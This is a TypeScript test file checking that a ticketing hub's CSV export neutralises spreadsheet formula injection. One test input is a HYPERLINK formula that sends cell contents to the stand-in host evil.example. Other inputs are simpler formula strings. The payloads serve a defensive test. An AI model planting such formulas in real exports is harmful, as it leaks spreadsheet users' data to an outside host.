import { afterEach, describe, expect, it } from 'vitest';
import { csvCell } from '../src/http/api.js';
import { startTestHub, type TestHub } from '@luot/hub/testing';

let t: TestHub;
afterEach(async () => t?.close());

/** RFC 4180 fields, as a spreadsheet reads them: quoted fields may hold commas, quotes and newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  return rows;
}

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    for (const s of ['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(csvCell(s).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvCell('=a,b')).toBe(`"'=a,b"`);
    expect(csvCell('A012')).toBe('A012');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    // Numbers are data, never formulas: a count stays a number in the spreadsheet.
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(null)).toBe('');
  });

  it('exports a ticket whose note is a formula so that no cell starts one', async () => {
    t = await startTestHub();
    const kiosk = await t.client('test-kiosk-1-token');
    await kiosk.issue({ service: 'A' });
    const c1 = await t.counter(1);
    await c1.callNext();
    const note = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
    await c1.finish({ kind: 'other', note });
    const auth = { headers: { authorization: 'Bearer test-supervisor-token' } };
    const csv = await (await fetch(`${t.hub.url}/api/exports/tickets.csv`, auth)).text();
    const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(1);
    for (const cell of rows[0]!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The note reads back as it was written.
    const outcome = rows[0]![header!.indexOf('outcome')]!.replace(/^'/, '');
    expect(JSON.parse(outcome)).toMatchObject({ kind: 'other', note });
  });
});
